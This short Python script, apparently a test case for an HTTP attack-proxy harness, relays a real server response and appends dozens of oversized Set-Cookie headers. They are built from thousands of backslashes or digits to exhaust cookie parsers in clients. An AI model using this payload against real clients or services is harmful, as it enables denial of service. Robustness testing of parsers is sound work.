from attack_proxy import serve


def attack(exchange):
    status, headers, body = exchange.honest()
    cookies = [("Set-Cookie", 'a="' + "\\" * 8_000), ("Set-Cookie", "b=c; expires=" + "9" * 8_000)]
    exchange.reply(status, [*headers, *cookies * 20], body)


serve(attack)
